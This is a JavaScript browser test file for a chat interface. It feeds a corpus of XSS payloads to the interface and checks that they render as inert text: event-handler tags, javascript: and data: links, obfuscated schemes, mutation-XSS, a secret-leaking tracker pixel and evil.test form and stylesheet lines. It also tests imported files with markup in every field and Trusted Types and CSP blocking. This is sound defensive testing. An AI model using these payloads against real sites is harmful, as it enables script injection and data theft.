// What a model writes cannot run, load, leave, or look like the page.
import { test } from "node:test";
import { assert, browser, ended, open } from "./browser.mjs";

const { ECHO } = process.env;
const CORPUS = [
  "<script>globalThis.hit = 1</script>",
  "<img src=x onerror=\"globalThis.hit=1\">",
  "<img src=/health>",
  "<svg onload=globalThis.hit=1><circle/></svg>",
  "<iframe src=javascript:globalThis.hit=1></iframe>",
  "<body onload=globalThis.hit=1>",
  "<a href=\"javascript:globalThis.hit=1\">click</a>",
  "[click](javascript:globalThis.hit=1)",
  "[click](JAVASCRIPT&colon;globalThis.hit=1)",
  "[click](&#x6A;avascript:globalThis.hit=1)",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "![a](http://tracker.test/pixel.png?secret)",
  "![a](x\" onerror=\"globalThis.hit=1)",
  "[ref]\n\n[ref]: javascript:globalThis.hit=1",
  "<javascript:globalThis.hit=1>",
  "```html\n<script>globalThis.hit=1</script>\n```",
  "```\"><img src=x onerror=globalThis.hit=1>\ncode\n```",
  "| <img src=x onerror=globalThis.hit=1> | b |\n|---|---|\n| <script>globalThis.hit=1</script> | `<b>` |",
  "<style>body{display:none}</style><link rel=stylesheet href=//evil.test/x.css>",
  "<form action=http://evil.test><input name=k autofocus onfocus=globalThis.hit=1></form>",
  "<details open ontoggle=globalThis.hit=1>",
  "<math><mtext></table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=globalThis.hit=1&gt;\">",
  "<think><img src=x onerror=globalThis.hit=1></think><script>globalThis.hit=1</script>",
  "\u202e\u0000<script\u0000>globalThis.hit=1</script>",
  "<dialog id=key-title open>Give your key</dialog>",
];
const ALLOWED = new Set(
  `DIV P H2 H3 H4 H5 H6 BLOCKQUOTE UL OL LI HR TABLE THEAD TBODY TR TH TD STRONG EM DEL CODE A BR
  SPAN PRE BUTTON svg path`.split(/\s+/),
);

test("a corpus of injections is text", async () => {
  const { page, faults, foreign } = await browser();
  const asked = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  await open(page, ECHO);
  for (const text of CORPUS) {
    await page.fill("#prompt", text);
    await page.click("#send");
    await ended(page);
    const { tags, handlers, links } = await page.evaluate(() => {
      const all = [...document.querySelectorAll(".message.last .markdown *")];
      return {
        tags: all.map((element) => element.tagName),
        handlers: all.flatMap((e) => e.getAttributeNames().filter((name) => name.startsWith("on") || name === "style")),
        links: all.filter((e) => e.tagName === "A").map((e) => [e.protocol, e.rel, e.target]),
      };
    });
    for (const tag of tags) assert.ok(ALLOWED.has(tag), `${tag} of ${text}`);
    assert.deepEqual(handlers, [], text);
    for (const [protocol, rel, target] of links) {
      assert.match(protocol, /^(https?|mailto):$/, text);
      assert.match(rel, /noopener noreferrer/);
      assert.equal(target, "_blank");
    }
  }
  assert.equal(await page.evaluate(() => globalThis.hit), undefined);
  assert.deepEqual([faults, foreign], [[], []], "nothing was blocked, since nothing was tried");
  assert.equal(asked.filter((path) => path === "/health").length, 0);
});

test("the policy holds by itself: no text becomes markup, no script but ours", async () => {
  const { page } = await browser();
  await open(page, ECHO);
  const kind = await page.evaluate(() => {
    try {
      document.body.innerHTML = "<b>x</b>";
      return "set";
    } catch (error) {
      return error.name;
    }
  });
  assert.equal(kind, "TypeError", "Trusted Types");
  const runs = await page.evaluate(async () => {
    const script = document.createElement("script");
    try {
      script.textContent = "globalThis.hit = 1";
    } catch {
      return "refused";
    }
    document.head.append(script);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return globalThis.hit ?? "blocked";
  });
  assert.ok(["refused", "blocked"].includes(runs), runs);
  const left = await page.evaluate(() => fetch("http://tracker.test/").then(() => "sent", () => "blocked"));
  assert.equal(left, "blocked");
});

test("a file with markup in every field shows it as text", async () => {
  const { page, faults } = await browser();
  await open(page, ECHO);
  const evil = "<img src=x onerror=globalThis.hit=1>";
  const messages = [
    { id: evil, parent: null, role: "user", content: evil, at: 1 },
    { id: "a", parent: evil, role: "assistant", content: evil, reasoning: evil, error: evil, model: evil,
      at: 2, calls: [{ id: evil, name: evil, arguments: evil }] },
    { id: "t", parent: "a", role: "tool", content: evil, name: evil, callId: evil, at: 3 },
  ];
  const conversation = { id: evil, title: evil, created: 1, updated: 2, messages, leaf: "t", settings: {} };
  const file = { format: "slotmux-conversations", version: 1, conversations: [conversation] };
  const buffer = Buffer.from(JSON.stringify(file));
  await page.setInputFiles("#import-file", { name: "x.json", mimeType: "application/json", buffer });
  await page.waitForSelector(".message.tool");
  assert.equal(await page.locator("#messages img, #title img, #conversations img").count(), 0);
  assert.equal(await page.evaluate(() => globalThis.hit), undefined);
  assert.deepEqual(faults, []);
});
